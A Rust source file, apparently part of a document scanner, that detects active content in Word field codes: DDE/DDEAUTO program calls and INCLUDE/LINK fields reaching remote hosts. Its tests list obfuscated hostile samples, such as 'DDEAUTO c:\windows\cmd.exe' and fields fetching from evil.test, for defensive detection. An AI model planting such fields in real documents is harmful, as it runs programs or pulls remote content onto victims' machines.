//! What the fields of a text document do, their codes joined as a word processor joins them: over runs, and field within field.

use crate::unreadable::Unreadable::{self, ActiveContent, Damaged};

/// Fields that call another program.
const CALLING: [&str; 3] = ["DDE", "DDEAUTO", "DATABASE"];
/// How those are called that take a file in, which no other machine may give them.
const TAKING_IN: [&str; 4] = ["INCLUDE", "IMPORT", "LINK", "RD"];
/// What alone may make up a part of the path of such a file.
const MAKING_PATHS: &str = "MERGEFIELD";
/// The most fields within each other, and the longest name that counts.
const DEEPEST: usize = 256;
const LONGEST: usize = 16;

/// How sure a piece of a code is to be one.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd)]
pub(super) enum Piece {
    Code,
    Deleted,
    Text,
}

/// Fields as they begin and end; the first of those that are open is what stands outside of any.
pub(super) struct Fields {
    text: String,
    open: Vec<Field>,
}

#[derive(Default)]
struct Field {
    /// Where its code begins in the text, and ends if it does.
    begins: usize,
    ends: Option<usize>,
    /// How many elements of other languages it stands within: a reader leaves out some of them.
    foreign: usize,
    /// Its name by the pieces that are sure, by those that are deleted too, and by all.
    names: [Name; 3],
}

#[derive(Default)]
struct Name {
    letters: String,
    is_formula: bool,
    is_whole: bool,
}

impl Default for Fields {
    fn default() -> Self {
        Self { text: String::new(), open: vec![Field::default()] }
    }
}

impl Fields {
    pub(super) fn begin(&mut self, foreign: usize) -> Result<(), Unreadable> {
        if self.open.len() > DEEPEST {
            return Err(Damaged);
        }
        let is_within = self.open.len() > 1;
        if is_within && self.open.last().is_some_and(Field::may_yet_act) {
            return Err(ActiveContent);
        }
        self.open.push(Field { begins: self.text.len(), foreign, ..Field::default() });
        Ok(())
    }

    /// Takes what is said within the field that began last; outside of any, it is one of its own as well.
    pub(super) fn say(&mut self, said: &str, piece: Piece, foreign: usize) -> Result<(), Unreadable> {
        let is_outside = self.open.len() == 1;
        if is_outside && piece != Piece::Text {
            self.begin(foreign)?;
            self.say(said, piece, foreign)?;
            self.end(foreign)?;
        }
        let Some(field) = self.open.last_mut() else { return Ok(()) };
        let is_astray = foreign != field.foreign;
        match piece {
            Piece::Text if is_outside || is_astray || field.ends.is_some() => return Ok(()),
            Piece::Code | Piece::Deleted if !is_outside && is_astray => return Err(ActiveContent),
            _ => {}
        }
        for (least, name) in [Piece::Code, Piece::Deleted, Piece::Text].into_iter().zip(&mut field.names) {
            if piece <= least {
                name.add(said);
            }
        }
        self.text.push_str(said);
        Ok(())
    }

    /// What follows is but what the field gave when it was last asked.
    pub(super) fn separate(&mut self, foreign: usize) -> Result<(), Unreadable> {
        match &mut self.open[..] {
            [_, .., field] if field.foreign != foreign => Err(ActiveContent),
            [_, .., field] => {
                field.ends = Some(self.text.len());
                Ok(())
            }
            _ => Ok(()),
        }
    }

    pub(super) fn end(&mut self, foreign: usize) -> Result<(), Unreadable> {
        let field = if self.open.len() > 1 { self.open.pop() } else { None };
        let Some(field) = field else { return Ok(()) };
        let makes_a_path = self.open.iter().any(|it| it.ends.is_none() && it.takes_in());
        let may = |name: &Name| name.letters.is_empty() || name.letters == MAKING_PATHS;
        if field.foreign != foreign || self.acts(&field) || (makes_a_path && !field.names.iter().all(may)) {
            return Err(ActiveContent);
        }
        Ok(())
    }

    /// Ends all that is open.
    pub(super) fn finish(self) -> Result<(), Unreadable> {
        if self.open.iter().any(|field| self.acts(field)) { Err(ActiveContent) } else { Ok(()) }
    }

    fn acts(&self, field: &Field) -> bool {
        let code = &self.text[field.begins..field.ends.unwrap_or(self.text.len())];
        let calls = field.names.iter().any(|name| CALLING.contains(&name.letters.as_str()));
        calls || (field.takes_in() && reaches_out(code))
    }
}

impl Field {
    fn takes_in(&self) -> bool {
        let takes_in = |name: &Name| TAKING_IN.iter().any(|it| name.letters.starts_with(it));
        self.names.iter().any(takes_in)
    }

    /// Whether a field that begins within its name could make it one that acts.
    fn may_yet_act(&self) -> bool {
        let may = |name: &Name| {
            let mut acting = CALLING.iter().chain(&TAKING_IN);
            !name.is_whole && !name.is_formula && acting.any(|it| it.starts_with(&name.letters))
        };
        self.ends.is_none() && self.names.iter().any(may)
    }
}

impl Name {
    fn add(&mut self, said: &str) {
        for letter in said.chars() {
            if self.is_whole {
                return;
            }
            if letter.is_ascii_alphabetic() {
                self.letters.push(letter.to_ascii_uppercase());
                self.is_whole = self.letters.len() == LONGEST;
            } else {
                self.is_whole = !self.letters.is_empty();
                self.is_formula |= letter == '=';
            }
        }
    }
}

/// Whether a path behind the name leads to another machine; within the path of a drive, bars are double.
fn reaches_out(code: &str) -> bool {
    let path = code.trim_start().trim_start_matches(|c: char| c.is_ascii_alphabetic()).as_bytes();
    let is_bar = |byte: u8| matches!(byte, b'/' | b'\\');
    let mut doubled = path.windows(2).enumerate().filter(|(_, pair)| pair.iter().all(|byte| is_bar(*byte)));
    doubled.any(|(at, pair)| match path[..at] {
        [.., before, drive, b':'] => pair == b"//" || !drive.is_ascii_alphabetic() || before.is_ascii_alphanumeric(),
        [.., b' ', b'\\', switch] if switch.is_ascii_alphabetic() => true,
        [.., before] => {
            !is_bar(before) && !before.is_ascii_alphanumeric() && !b"._-~)%$".contains(&before) && before < 0x80
        }
        [] => true,
    })
}

#[cfg(test)]
mod tests {
    use super::super::part::look_through;
    use super::*;

    /// Tags of a field: where it begins, where its code ends, and where it does; and a piece of its code.
    fn paragraph(runs: &str) -> String {
        let mut xml = runs.to_owned();
        for (short, tag) in [("{", "begin"), ("|", "separate"), ("}", "end")] {
            xml = xml.replace(short, &format!(r#"</w:instrText><w:fldChar w:fldCharType="{tag}"/><w:instrText>"#));
        }
        let languages = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:x="urn:x""#;
        format!(r"<w:document {languages}><w:p><w:r><w:instrText>{xml}</w:instrText></w:r></w:p></w:document>")
    }

    #[test]
    fn the_fields_of_ordinary_documents_do_nothing() {
        for runs in [
            r"{ PAGE   \* MERGEFORMAT |}{ PA+GE }{={PAGE}+1}{ = {NUMPAGES} - 1 }",
            r#"{ TOC \o "1-3" \h \z \u |{ HYPERLINK \l "_Toc1" |{ PAGEREF _Toc1 \h |}}}"#,
            r#"{ HYPERLINK "https://granary.test/terms" |}{ HYPERLINK "mailto:desk@granary.test" |}"#,
            r#"{ IF { MERGEFIELD Country } = "AE" "{ MERGEFIELD Name \* Upper }" "//" |}{ADDRESSBLOCK \f "x"}"#,
            r#"{ INCLUDEPICTURE "logo.png" \d |}{ INCLUDEPICTURE "C:\\Users\\Desk\\logo.png" \* MERGEFORMATINET |}"#,
            r#"{ INCLUDEPICTURE "media/logo.png" |{ HYPERLINK "https://granary.test" }}"#,
            r#"{ INCLUDEPICTURE "C:\\Photos\\{ MERGEFIELD Photo }.jpg" }{ LINK Excel.Sheet.12 "C:\\lots.xlsx" \a }"#,
            r#"{ DATE \@ "d MMMM yyyy" |}{ SEQ Table \* ARABIC |}{ REF _Ref1 \h |}{ MACROBUTTON NoMacro [Here] }"#,
            r"{ EQ \f(1,2) }{ FORMTEXT |}{ STYLEREF 1 }{ MERGEFIELD DDE }",
            "}|",
        ] {
            let runs = runs.replace('+', "</w:instrText><w:instrText>");
            assert_eq!(look_through(&paragraph(&runs), true), Ok(()), "{runs}");
        }
        let deep = "{ IF 1 = 1 ".repeat(64) + &"}".repeat(64);
        assert_eq!(look_through(&paragraph(&deep), true), Ok(()));
        assert_eq!(look_through(&paragraph(&"{ IF ".repeat(1000)), true), Err(Damaged));
    }

    #[test]
    fn a_field_that_calls_a_program_or_another_machine_is_found_however_it_is_written() {
        for runs in [
            r"{ DDEAUTO c:\windows\cmd.exe }",
            "{ DDE+AUTO x }",
            "{ DD+EAUTO x }",
            "{ &#68;&#x44;EAUTO x }",
            "{ <![CDATA[DDE]]>AUTO x }",
            "{ DD<!-- x -->EAUTO x }",
            "{ DD<?x y?>E x }",
            "{ ddeauto x }",
            "{DDEAUTO",
            "DDEAUTO x",
            " PAGE +DDEAUTO x",
            "{ IF 1 = 1 { DDE x } }",
            "{ PAGE |{ DDE x }}",
            "{ DD{ QUOTE 69 }AUTO x }",
            "{{ QUOTE 68 68 69 } x }",
            "{ DD@x:instrText@X@/x:instrText@EAUTO x }",
            "{ DD@x:a@@w:instrText@X@/w:instrText@@/x:a@EAUTO x }",
            "{ DD@w:delInstrText@X@/w:delInstrText@EAUTO x }",
            "{ DD@w:t@EAUTO@/w:t@ x }",
            "{ DD@w:t@X@/w:t@EAUTO x }",
            "@w:fldSimple w:instr=' DDEAUTO x'@@/w:fldSimple@",
            "@w:fldSimple x:instr='PAGE' w:instr='DDE x'@@/w:fldSimple@",
            "{ IF @w:fldSimple w:instr='&#100;de x'@@/w:fldSimple@ }",
            r#"{ DATABASE \c "SERVER=evil.test" }"#,
            r#"{ INCLUDEPICTURE "\\evil\a.png" }"#,
            r#"{ INCLUDEPICTURE "\\\\evil\\a.png" \d |}"#,
            r#"{ includepicture"\\evil\a.png" }"#,
            r"{ INCLUDEPICTURE\\evil\a.png }",
            r"{ INCLUDEPICTURE \d\\evil\a.png }",
            r#"{ INCLUDETEXT "http://evil.test/a" }"#,
            r#"{ INCLUDE "//evil.test/a" }"#,
            r#"{ IMPORT "file:\\evil.test\a" }"#,
            r#"{ LINK Excel.Sheet.12 "http:/+/evil.test/a" }"#,
            r#"{ RD "/\evil.test/a" }"#,
            r#"{ INCLUDETEXT "{ QUOTE 92 92 }evil.test" }"#,
            r#"{ INCLUDE{ QUOTE 84 }EXT "a" }"#,
        ] {
            let between = |it: &str| format!("</w:instrText>{it}<w:instrText>");
            let (mut parts, mut xml) = (runs.split('@'), String::new());
            xml += parts.next().unwrap_or_default();
            let tags: Vec<_> = parts.collect();
            if let [within @ .., last] = &tags[..] {
                let within = within.iter().enumerate().map(|(nth, it)| match nth % 2 {
                    0 => format!("<{it}>"),
                    _ => (*it).to_owned(),
                });
                xml += &between(&within.collect::<String>());
                xml += last;
            }
            let xml = paragraph(&xml.replace('+', &between("")));
            assert_eq!(look_through(&xml, true), Err(ActiveContent), "{runs}: {xml}");
        }
    }
}
